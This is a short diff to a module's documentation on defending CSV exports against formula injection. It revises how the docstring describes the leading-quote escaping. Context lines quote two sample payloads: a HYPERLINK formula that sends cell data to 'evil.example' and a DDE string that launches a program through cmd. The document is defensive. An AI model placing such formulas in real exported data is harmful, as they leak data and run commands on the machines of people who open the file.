@@ -5,9 +5,10 @@ Excel, LibreOffice Calc and Google Sheets read a CSV cell that begins with ``=``
 or segment name from someone else's data (``=HYPERLINK("http://evil.example/?"&A1,"click")``,
 ``+cmd|' /C calc'!A0``) would then run on the analyst's machine when the download is opened.
 Every CSV segmint writes goes through this module, which applies OWASP's rule ("CSV
-Injection"): such a **text** cell gets a leading single quote (``'``), which the spreadsheet
-shows as text and hides; the rest of the value is unchanged, so reading it back gives the
-original with one ``'`` in front.
+Injection"): such a **text** cell gets a leading single quote (``'``), which makes the
+spreadsheet keep the cell as text (Excel hides the quote; other programs may show it); the
+rest of the value is unchanged, so reading it back gives the original with one ``'`` in
+front.
 
 What is neutralized and what is not:
 
